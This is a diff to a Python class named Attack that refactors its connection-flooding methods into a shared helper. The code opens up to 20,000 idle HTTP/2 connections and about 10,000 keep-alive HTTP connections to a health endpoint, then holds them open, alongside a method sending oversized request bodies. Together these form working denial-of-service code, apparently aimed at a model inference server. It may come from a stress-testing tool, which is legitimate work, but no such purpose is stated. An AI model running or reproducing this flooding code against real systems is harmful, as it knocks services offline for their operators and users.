@@ -162,38 +162,29 @@ class Attack:
                 + b"1.5," * (n - 1) + b"1.5]}]}")
         self._big_bodies(body, _infer_head(self.model, len(body), "Connection: close\r\n"))
 
-    def idle_h2(self) -> None:
+    def _open(self, addr: tuple[str, int], n: int, first: bytes) -> list[socket.socket]:
+        """Up to ``n`` connections to ``addr``, each having sent ``first``."""
         socks = []
-        for _ in range(self.n(20_000)):
+        for _ in range(n):
             if not self.running():
                 break
-            s = _connect(self.grpc, self.source)
+            s = _connect(addr, self.source)
             if s is None:
                 continue
             try:
-                s.sendall(H2_PREFACE)
+                s.sendall(first)
             except OSError:
                 s.close()
                 continue
             socks.append(s)
             self.sent += 1
-        self.hold(socks)
+        return socks
+
+    def idle_h2(self) -> None:
+        self.hold(self._open(self.grpc, self.n(20_000), H2_PREFACE))
 
     def keepalive(self) -> None:
-        socks = []
-        for _ in range(self.n(10_032)):
-            if not self.running():
-                break
-            s = _connect(self.http, self.source)
-            if s is None:
-                continue
-            try:
-                s.sendall(b"GET /v2/health/live HTTP/1.1\r\nHost: x\r\n\r\n")
-            except OSError:
-                s.close()
-                continue
-            socks.append(s)
-            self.sent += 1
+        socks = self._open(self.http, self.n(10_032), b"GET /v2/health/live HTTP/1.1\r\nHost: x\r\n\r\n")
         while self.running():  # read answers, keep every connection open
             socks = [s for s in socks if _drain(s) or s.close()]
             time.sleep(0.2)
